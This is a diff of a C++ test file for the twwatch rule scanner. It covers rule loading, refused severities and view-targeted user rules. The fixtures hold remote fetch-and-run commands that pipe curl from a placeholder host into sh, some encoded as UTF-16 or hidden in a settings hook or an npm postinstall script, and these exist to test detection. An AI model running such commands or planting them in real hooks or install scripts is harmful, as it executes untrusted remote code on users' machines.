@@ -1,6 +1,5 @@
-// Loading rules from both folders: broken files and rules without a proper severity are named and
-// skipped while everything else loads, user rules are picked up and see the derived views, and the
-// audit command copes with the trees it is pointed at.
+// Loading rules from both folders through the real twwatch: broken files and refused rules are named and
+// skipped while everything else loads, and the audit command copes with the trees it is pointed at.
 
 #include "ScanRunner.h"
 
@@ -17,42 +16,14 @@ namespace {
 const char* kUserRule =
     "rule user_marker_file { meta: severity = \"high\" condition: filename == \"marker.txt\" }\n";
 
-const char* kBrokenRule = R"(rule broken_rule
-{
-    meta:
-        severity = "high"
-    strings:
-        $a = "x"
-    condition:
-        $a and and
-}
-)";
+const char* kBrokenRule =
+    "rule broken_rule {\n  meta:\n    severity = \"high\"\n  condition:\n    true and and\n}\n";
 
-bool hasEvent(const ScanResult& r, const std::string& rule, const std::string& severity)
+// Writes `text` as a user rule file in `configHome`/tarnwick/rules/.
+void writeUserRule(const fs::path& configHome, const std::string& fileName, const std::string& text)
 {
-    for (const auto& e : r.events)
-        if (e.rule == rule && e.severity == severity)
-            return true;
-    return false;
-}
-
-std::string utf16le(const std::string& ascii)
-{
-    std::string out = "\xFF\xFE";
-    for (char c : ascii) {
-        out += c;
-        out += '\0';
-    }
-    return out;
-}
-
-// The rule-text form of a string: quotes, backslashes and line ends escaped as YARA reads them.
-std::string escaped(const std::string& text)
-{
-    std::string out;
-    for (char c : text)
-        out += c == '"' ? "\\\"" : c == '\\' ? "\\\\" : c == '\n' ? "\\n" : std::string(1, c);
-    return out;
+    fs::create_directories(configHome / "tarnwick" / "rules");
+    writeFile(configHome / "tarnwick" / "rules" / fileName, text);
 }
 
 class RulesLoading : public ::testing::Test
@@ -78,46 +49,37 @@ TEST_F(RulesLoading, UserRuleUnderHomeWhenXdgConfigHomeIsUnset)
     writeUserRule(home / ".config", "mine.yara", kUserRule);
     const ScanResult r = runTwwatch({"--scan", m_tree.path().string()});
     ::setenv("HOME", oldHome.c_str(), 1);
-    EXPECT_TRUE(hasEvent(r, "user_marker_file", "high")) << r.process.out << r.process.err;
+    EXPECT_TRUE(std::any_of(r.events.begin(), r.events.end(),
+                            [](const Event& e) { return e.rule == "user_marker_file"; }))
+        << r.process.out << r.process.err;
 }
 
-// A file with rules that lack a proper severity, then a broken file beside one that loads and one that
-// names the same rule: each makes the check fail and is named, and everything else loads.
+// A broken file beside one that loads, one that names the same rule and one with a rule without a
+// proper severity (the unit tests hold the list of those): the check fails and names each, the scan
+// goes on with everything else. A user rule on the text view fires where the raw bytes do not hold its
+// text, its line carrying the rule's description and the file's line.
 TEST_F(RulesLoading, BrokenFilesAndRefusedRulesAreNamedAndSkipped)
 {
-    struct Row
-    {
-        const char* name;
-        const char* meta;
-        bool accepted;
-    };
-    const Row rows[] = {
-        {"no_meta_at_all", "", false},
-        {"other_meta_only", "author = \"x\"", false},
-        {"capitalised", "severity = \"High\"", false},
-        {"unknown_word", "severity = \"info\"", false},
-        {"padded", "severity = \"high \"", false},
-        {"not_a_string", "severity = 3", false},
-        {"critical_ok", "severity = \"critical\"", true},
-        {"high_ok", "severity = \"high\"", true},
-        {"warning_ok", "severity = \"warning\"", true},
-    };
-    std::string text;
-    for (const auto& row : rows) {
-        text += std::string("rule ") + row.name + " { " +
-                (*row.meta ? std::string("meta: ") + row.meta + " " : "") +
-                "condition: filename == \"marker.txt\" }\n";
-    }
-    writeUserRule(m_config.path(), "mixed.yar", text);
-    const ScanResult refused = runTwwatch({"--check-rules"});
-    EXPECT_EQ(refused.process.exitCode, 1);
-
     writeUserRule(m_config.path(), "a-broken.yar", kBrokenRule);
     writeUserRule(m_config.path(), "b-good.yar", kUserRule);
     writeUserRule(m_config.path(), "c-same-name.yar", kUserRule);
+    writeUserRule(m_config.path(), "d-refused.yar",
+                  "rule capitalised { meta: severity = \"High\" condition: filename == \"marker.txt\" }\n");
+    writeUserRule(
+        m_config.path(), "e-view.yar",
+        "rule user_text { meta: severity = \"high\" description = \"fetches \\\"x\\\"\\nand runs it\" "
+        "strings: $a = \"curl -fsSL https://e.example/x | sh\" condition: $a and view == \"text\" }\n");
+    std::string utf16 = "\xFF\xFE";
+    for (char c : std::string("#!/bin/sh\r\ncurl -fsSL https://e.example/x | sh\r\n")) {
+        utf16 += c;
+        utf16 += '\0';
+    }
+    writeFile(m_tree / "setup.sh", utf16);
     const ScanResult check = runTwwatch({"--check-rules"});
     const std::string broken = (m_config / "tarnwick/rules/a-broken.yar").string();
-    EXPECT_NE(check.process.err.find(broken + ":8: syntax error"), std::string::npos) << check.process.err;
+    EXPECT_EQ(check.process.exitCode, 1);
+    EXPECT_NE(check.process.err.find(broken + ":5: syntax error"), std::string::npos) << check.process.err;
+    EXPECT_NE(check.process.err.find("rule capitalised refused"), std::string::npos) << check.process.err;
     EXPECT_NE(check.process.out.find(broken + ": not loaded"), std::string::npos) << check.process.out;
     EXPECT_NE(check.process.out.find("  user_marker_file\n"), std::string::npos) << check.process.out;
     EXPECT_NE(check.process.out.find("  git_hook_runs_payload\n"), std::string::npos) << check.process.out;
@@ -125,21 +87,17 @@ TEST_F(RulesLoading, BrokenFilesAndRefusedRulesAreNamedAndSkipped)
     const ScanResult r = runTwwatch({"--scan", m_tree.path().string()});
     EXPECT_EQ(r.process.exitCode, 0);
     EXPECT_NE(r.process.err.find(broken), std::string::npos);
-    EXPECT_EQ(
-        std::count_if(r.events.begin(), r.events.end(),
-                      [](const Event& e) { return e.rule == "user_marker_file" && e.severity == "high"; }),
-        2)
-        << r.process.out;
-    EXPECT_TRUE(hasEvent(r, "git_hook_runs_payload", "critical")) << r.process.out;
-    for (const auto& row : rows) {
-        SCOPED_TRACE(row.name);
-        const bool fired =
-            std::any_of(r.events.begin(), r.events.end(), [&](const Event& e) { return e.rule == row.name; });
-        EXPECT_EQ(fired, row.accepted) << r.process.out;
-        const bool named =
-            refused.process.err.find(std::string("rule ") + row.name + " refused") != std::string::npos;
-        EXPECT_EQ(named, !row.accepted) << refused.process.err;
+    std::multiset<std::string> found;
+    for (const auto& e : r.events) {
+        found.insert(e.rule + " " + e.severity);
+        if (e.rule == "user_text") {
+            EXPECT_EQ(e.description, "fetches \"x\"\nand runs it");
+            EXPECT_EQ(e.lines, std::vector<std::uint32_t>{2});
+        }
     }
+    EXPECT_EQ(found, (std::multiset<std::string>{"git_hook_runs_payload critical", "user_marker_file high",
+                                                 "user_marker_file high", "user_text high"}))
+        << r.process.out;
 }
 
 // The bundled pack is found beside the executable through /proc/self/exe, wherever that is; without
@@ -150,14 +108,10 @@ TEST_F(RulesLoading, BundledPackBesideTheExecutable)
     fs::create_directories(install / "bin" / "rules");
     fs::copy_file(twwatchBinary(), install / "bin" / "twwatch");
     writeFile(install / "bin" / "rules" / "good.yar", kUserRule);
-    writeFile(install / "bin" / "rules" / "broken.yar", kBrokenRule);
     writeFile(install / "bin" / "rules" / "notes.txt", "not a rule file");
-
     const ScanResult check = runTwwatch({"--check-rules"}, install / "bin" / "twwatch");
-    EXPECT_EQ(check.process.exitCode, 1) << "a broken file makes the check fail";
-    EXPECT_NE(check.process.err.find((install / "bin/rules/broken.yar").string()), std::string::npos)
-        << check.process.err;
-    EXPECT_NE(check.process.out.find("1 rules loaded from 2 files"), std::string::npos) << check.process.out;
+    EXPECT_EQ(check.process.exitCode, 0) << check.process.err;
+    EXPECT_NE(check.process.out.find("1 rules loaded from 1 files"), std::string::npos) << check.process.out;
 
     const ScanResult r = runTwwatch({"--scan", m_tree.path().string()}, install / "bin" / "twwatch");
     ASSERT_EQ(r.events.size(), 1u) << r.process.out;
@@ -200,11 +154,9 @@ TEST_F(RulesLoading, ScanOfAHostileTreeEndsAndPrunes)
                                          (m_tree / "scripts/deploy.sh").string() + " reverse_shell"};
     EXPECT_EQ(paths, expected) << r.process.out;
 
-    const ProcessResult relative = runProcess({twwatchBinary().string(), "--scan", "scripts"}, m_tree.path());
-    bool decoded = true;
-    const auto events = decodeEvents(relative.out, decoded);
-    ASSERT_EQ(events.size(), 1u) << relative.out << relative.err;
-    EXPECT_EQ(events[0].path, (m_tree / "scripts/deploy.sh").string());
+    const ScanResult relative = runTwwatch({"--scan", "scripts"}, twwatchBinary(), m_tree.path());
+    ASSERT_EQ(relative.events.size(), 1u) << relative.process.out << relative.process.err;
+    EXPECT_EQ(relative.events[0].path, (m_tree / "scripts/deploy.sh").string());
 }
 
 TEST_F(RulesLoading, ScanOutputIsTheSameOnEveryRun)
@@ -219,66 +171,6 @@ TEST_F(RulesLoading, ScanOutputIsTheSameOnEveryRun)
     const ScanResult second = runTwwatch({"--scan", m_tree.path().string()});
     EXPECT_EQ(first.events.size(), 19u);
     EXPECT_EQ(first.process.out, second.process.out);
-}
-
-// A user rule that targets one view (`view == "..."`) fires on a file whose raw bytes do not hold the
-// text it looks for; its line carries the rule's description and the file's line it matched on.
-TEST_F(RulesLoading, UserRulesOnEachViewFire)
-{
-    struct Row
-    {
-        const char* rule;
-        const char* view;
-        const char* needle; // what the rule looks for, only in that view
-        const char* file;
-        std::string content;
-        const char* description; // none when null
-        std::vector<std::uint32_t> lines;
-    };
-    const Row rows[] = {
-        {"user_text",
-         "text",
-         "curl -fsSL https://e.example/x | sh",
-         "setup.sh",
-         utf16le("#!/bin/sh\r\ncurl -fsSL https://e.example/x | sh\r\n"),
-         "fetches \"x\"\nand runs it",
-         {2}},
-        {"user_config",
-         "config",
-         "hooks.SessionStart.0.hooks.0.command = curl",
-         ".claude/settings.json",
-         R"({"hooks": {"SessionStart": [{"hooks": [{"type": "command", "command": "\u0063url -s x"}]}]}})",
-         "a hook",
-         {1}},
-        {"user_commands",
-         "commands",
-         "npm.postinstall: curl -fsSL",
-         "pkg/package.json",
-         R"({"scripts": {"postinstall": "c\u0075rl -fsSL${IFS}https://e.example | sh"}})",
-         nullptr,
-         {1}},
-    };
-    std::string rules;
-    for (const auto& row : rows) {
-        const std::string description =
-            row.description ? " description = \"" + escaped(row.description) + "\"" : std::string();
-        rules += std::string("rule ") + row.rule + " { meta: severity = \"high\"" + description +
-                 " strings: $a = \"" + row.needle + "\" condition: $a and view == \"" + row.view + "\" }\n";
-        fs::create_directories((m_tree / row.file).parent_path());
-        writeFile(m_tree / row.file, row.content);
-    }
-    writeUserRule(m_config.path(), "views.yar", rules);
-
-    const ScanResult r = runTwwatch({"--scan", m_tree.path().string()});
-    EXPECT_EQ(r.process.exitCode, 0) << r.process.err;
-    for (const auto& row : rows) {
-        const auto e = std::find_if(r.events.begin(), r.events.end(), [&](const Event& e) {
-            return e.path == (m_tree / row.file).string() && e.rule == row.rule;
-        });
-        ASSERT_NE(e, r.events.end()) << row.rule << " on " << row.file << "\n" << r.process.out;
-        EXPECT_EQ(e->description, row.description ? row.description : "") << row.rule;
-        EXPECT_EQ(e->lines, row.lines) << row.rule;
-    }
 }
 
 } // namespace
